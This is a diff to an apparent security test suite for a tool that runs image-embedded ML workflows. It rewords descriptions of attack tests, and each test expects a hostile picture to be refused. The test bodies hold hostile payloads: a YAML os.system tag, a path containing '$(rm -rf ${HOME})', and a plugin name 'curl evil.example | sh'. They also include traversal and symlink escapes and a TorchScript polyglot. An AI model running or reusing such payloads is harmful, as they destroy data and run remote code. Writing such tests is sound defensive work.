@@ -31,7 +31,7 @@ def loads_script(path: str, params: str = "", link: str = "") -> str:
     )
 
 
-@attack("a picture that is a TorchScript archive too, and loads itself", "forbidden-code")
+@attack("a picture that is also a TorchScript archive, and loads itself", "forbidden-code")
 def polyglot(arena: Arena) -> Outcome:
     picture = recipe_picture(arena.folder / "holiday.png", loads_script("holiday.png"))
     with picture.open("ab") as file:
@@ -71,30 +71,30 @@ def torchscript_archive(target: Path) -> bytes:
     return buffer.getvalue()
 
 
-@attack("a picture that loads TorchScript although reading it is allowed", "forbidden-code")
+@attack("a picture that loads TorchScript from a file that it may only read", "forbidden-code")
 def code_through_read(arena: Arena) -> Outcome:
     (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
     return run_picture(arena, loads_script("net.pt"), "--allow-read", "net.pt")
 
 
-@attack("a picture that loads TorchScript from a parameter that the person sets", "forbidden-code")
+@attack("a picture that loads TorchScript from a parameter that the user sets", "forbidden-code")
 def code_through_set(arena: Arena) -> Outcome:
     (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
     text = loads_script("", "params: {net: {type: Path, default: x.pt}}\n", "in: {path: params.net}, ")
     return run_picture(arena, text, "--set", "net=net.pt")
 
 
-@attack("a picture that reads another picture of the machine", "forbidden-read")
+@attack("a picture that reads another local picture", "forbidden-read")
 def reads_photo(arena: Arena) -> Outcome:
     return run_picture(arena, reads("image.load", arena.photo))
 
 
-@attack("a picture that reads upwards from its own folder", "forbidden-read")
+@attack("a picture that reads from a parent of its own folder", "forbidden-read")
 def reads_upwards(arena: Arena) -> Outcome:
     return run_picture(arena, reads("image.load", os.path.relpath(arena.photo, arena.folder)))
 
 
-@attack("a picture that reads upwards from the package", "pkg:../")
+@attack("a picture that reads from a parent of the package's folder", "pkg:../")
 def reads_upwards_from_package(arena: Arena) -> Outcome:
     return run_picture(arena, reads("image.load", "pkg:../pyproject.toml"))
 
@@ -111,7 +111,7 @@ def reads_through_link(arena: Arena) -> Outcome:
     return run_picture(arena, reads("image.load", "mine/link.png"), "--allow-read", "mine")
 
 
-@attack("a picture that reads a folder that is allowed, in which a link leads out of it", "is refused")
+@attack("a picture that reads an allowed folder with a link that leads out of it", "is refused")
 def reads_link_in_folder(arena: Arena) -> Outcome:
     (arena.folder / "mine").mkdir()
     for name in ("a.png", "b.png"):
@@ -123,7 +123,7 @@ def reads_link_in_folder(arena: Arena) -> Outcome:
     return run_picture(arena, text, "--allow-read", "mine")
 
 
-@attack("a picture whose parameter's default names a file of the machine", "forbidden-read")
+@attack("a picture with a parameter whose default names a local file", "forbidden-read")
 def reads_by_default(arena: Arena) -> Outcome:
     text = (
         f'{HEAD}params: {{photo: {{type: Path, default: "{arena.photo}"}}}}\n'
@@ -132,7 +132,7 @@ def reads_by_default(arena: Arena) -> Outcome:
     return run_picture(arena, text)
 
 
-@attack("a picture whose recorded parameter names a file of the machine", "forbidden-read")
+@attack("a picture with a recorded parameter that names a local file", "forbidden-read")
 def reads_by_parameter(arena: Arena) -> Outcome:
     text = (
         f"{HEAD}params: {{photo: {{type: Path}}}}\n"
@@ -150,27 +150,30 @@ def reads_in_loop(arena: Arena) -> Outcome:
     return run_picture(arena, text)
 
 
-@attack("a picture that uses a workflow of the machine", "and does not carry that file")
+@attack("a picture that uses a local workflow", "and does not include that file")
 def uses_file(arena: Arena) -> Outcome:
     (arena.outside / "other.yaml").write_text(reads("image.load", arena.photo))
     text = f'{HEAD}nodes:\n  a: {{use: "{arena.outside}/other.yaml"}}\noutputs: {{a: a.a}}\n'
     return run_picture(arena, text)
 
 
-@attack("a picture that uses a file that is no workflow, to have its text shown", "and does not carry that file")
+@attack(
+    "a picture that uses a file that is not a workflow, so that a message shows its text",
+    "and does not include that file",
+)
 def uses_secret(arena: Arena) -> Outcome:
     os.link(arena.secret, arena.outside / "secret.yaml")
     text = f'{HEAD}nodes:\n  a: {{use: "{arena.outside}/secret.yaml"}}\noutputs: {{a: a.a}}\n'
     return run_picture(arena, text)
 
 
-@attack("a picture that hides a read in a workflow that it carries", "forbidden-read")
+@attack("a picture that hides a read in an embedded workflow", "forbidden-read")
 def reads_in_block(arena: Arena) -> Outcome:
     main = f"{HEAD}nodes:\n  a: {{use: ./block.yaml}}\noutputs: {{a: a.a}}\n"
     return run_picture(arena, {"draw.yaml": main, "block.yaml": reads("image.load", arena.photo)})
 
 
-@attack("a picture that calls a carried workflow one of the package's, to read beside it", "forbidden-read")
+@attack("a picture that gives an embedded workflow a package path, to read files next to it", "forbidden-read")
 def reads_beside_package(arena: Arena) -> Outcome:
     upwards = os.path.relpath(arena.photo, ROOT / "workflows")
     return run_picture(arena, {"pkg:draw.yaml": reads("image.load", upwards)})
@@ -182,7 +185,7 @@ SAVES = HEAD + (
 )
 
 
-@attack("a picture that saves a model over a folder of the person's", "forbidden-write")
+@attack("a picture that saves a model over one of the user's folders", "forbidden-write")
 def saves_over(arena: Arena) -> Outcome:
     return run_picture(arena, SAVES.format(path=arena.outside))
 
@@ -192,34 +195,34 @@ def saves_over_package(arena: Arena) -> Outcome:
     return run_picture(arena, SAVES.format(path="pkg:scenes"))
 
 
-@attack("a picture that saves over the package's model, though writing there is allowed", "is read-only")
+@attack("a picture that saves over the package's model, although writing there is allowed", "is read-only")
 def saves_over_package_allowed(arena: Arena) -> Outcome:
     package = ROOT / "workflows"
     return run_picture(arena, SAVES.format(path="pkg:scenes"), "--allow-write", package)
 
 
-@attack("a picture that saves below --out, through a link that lies there", "forbidden-write")
+@attack("a picture that saves below --out through a link in that folder", "forbidden-write")
 def saves_through_link(arena: Arena) -> Outcome:
     (arena.folder / "out").mkdir()
     (arena.folder / "out" / "model").symlink_to(arena.outside)
     return run_picture(arena, SAVES.format(path="out/model"))
 
 
-@attack("a picture that saves where the person set a file to be read", "forbidden-write")
+@attack("a picture that saves to a path that the user set for reading", "forbidden-write")
 def saves_over_given(arena: Arena) -> Outcome:
     text = SAVES.format(path="x").replace(HEAD, HEAD + "params: {photo: {type: Path}}\n")
     text = text.replace(', with: {path: "x"}', "").replace("autoencoder: m", "autoencoder: m, path: params.photo")
     return run_picture(arena, text, "--set", f"photo={arena.outside}")
 
 
-@attack("a picture whose training writes its checkpoint to a folder of the machine", "forbidden-write")
+@attack("a picture whose training writes its checkpoint to a local folder", "forbidden-write")
 def trains_over(arena: Arena) -> Outcome:
     train = ROOT / "workflows" / "train" / "class_judge.yaml"
     text = train.read_text().replace("../../checkpoints/fashion_judge", str(arena.outside / "state"))
     return run_picture(arena, text)
 
 
-@attack("a picture whose dtype is the name of a function of torch", "dtype")
+@attack("a picture whose dtype is the name of a torch function", "dtype")
 def dtype_load(arena: Arena) -> Outcome:
     return run_picture(arena, PLAIN, dtype="load")
 
@@ -227,66 +230,68 @@ def dtype_load(arena: Arena) -> Outcome:
 PLAIN = f"{HEAD}nodes:\n  n: {{use: noise.gaussian, with: {{shape: [1, 3, 4, 4]}}}}\noutputs: {{n: n}}\n"
 
 
-@attack("a picture whose settings of the run have other types", "only")
+@attack("a picture whose run settings have the wrong types", "only")
 def settings_of_other_types(arena: Arena) -> Outcome:
     return run_picture(arena, PLAIN, only="n", index={"a": 1})
 
 
-@attack("a picture whose workflow asks for a plugin to be imported", "missing-plugin")
+@attack("a picture whose workflow requests the import of a plugin", "missing-plugin")
 def requires_plugin(arena: Arena) -> Outcome:
     (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
     return run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {evil: ">=0"}\n'))
 
 
-@attack("a picture whose workflow uses a node of a module beside it", "unknown-node")
+@attack("a picture whose workflow uses a node from a module in its folder", "unknown-node")
 def uses_module(arena: Arena) -> Outcome:
     (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
     return run_picture(arena, PLAIN.replace("noise.gaussian", "evil.node"))
 
 
-@attack("a picture with a YAML tag that makes a Python object", "yaml")
+@attack("a picture with a YAML tag that creates a Python object", "yaml")
 def yaml_tag(arena: Arena) -> Outcome:
     tag = f"!!python/object/apply:os.system ['echo gone > {arena.protected_file}']"
     return run_picture(arena, PLAIN.replace("[1, 3, 4, 4]", tag))
 
 
-@attack("a picture that `validate` is asked about before it is run", "forbidden-write")
+@attack("a picture that is checked with `validate` before it is run", "forbidden-write")
 def validate_first(arena: Arena) -> Outcome:
     return arena.run("validate", recipe_picture(arena.folder / "holiday.png", SAVES.format(path=arena.outside)))
 
 
-@attack("a picture that `plan` is asked about, whose file is hashed for the plan", "forbidden-read")
+@attack("a picture passed to `plan`, which would hash the file that it names", "forbidden-read")
 def plan_first(arena: Arena) -> Outcome:
     return arena.run("plan", recipe_picture(arena.folder / "holiday.png", reads("image.load", arena.photo)))
 
 
-@attack("a picture that is swept, and reads a file of the machine", "forbidden-read")
+@attack("a picture passed to `sweep` that reads a local file", "forbidden-read")
 def sweep_first(arena: Arena) -> Outcome:
     text = reads("image.load", arena.photo).replace(HEAD, HEAD + "params: {seed: 0}\n")
     picture = recipe_picture(arena.folder / "holiday.png", text)
     return arena.run("sweep", picture, "--seeds", "0:2", "--out", "out")
 
 
-@attack("a picture that is exported, to carry a file of the machine into the bundle", "forbidden-read")
+@attack("a picture passed to `export`, to copy a local file into the bundle", "forbidden-read")
 def export_first(arena: Arena) -> Outcome:
     picture = recipe_picture(arena.folder / "holiday.png", reads("image.load", arena.photo))
     return arena.run("export", picture, "-o", "bundle")
 
 
-@attack("a picture whose path is a command to the shell, for whom copies the option that is offered", "--allow-read '")
+@attack(
+    "a picture with a path that contains a shell command, for a user who copies the suggested option", "--allow-read '"
+)
 def path_for_the_shell(arena: Arena) -> Outcome:
     outcome = run_picture(arena, reads("image.load", "x --allow-read / $(rm -rf ${HOME}).png"))
     assert f"--allow-read '{arena.folder}/x --allow-read / $(rm -rf ${{HOME}}).png'" in outcome.err
     return outcome
 
 
-@attack("a picture that requires a plugin whose name is a command to the shell", "its name is not valid")
+@attack("a picture that requires a plugin with a shell command as its name", "its name is not valid")
 def plugin_for_the_shell(arena: Arena) -> Outcome:
     outcome = run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {"x; curl evil.example | sh": ">=1"}\n'))
     assert "pip install" not in outcome.err
     return outcome
 
 
-@attack("a picture that carries a file whose name has a NUL", "no name of a file")
+@attack("a picture with an embedded file whose name contains a NUL", "no name of a file")
 def name_with_nul(arena: Arena) -> Outcome:
     return run_picture(arena, {"a\0b.yaml": PLAIN})
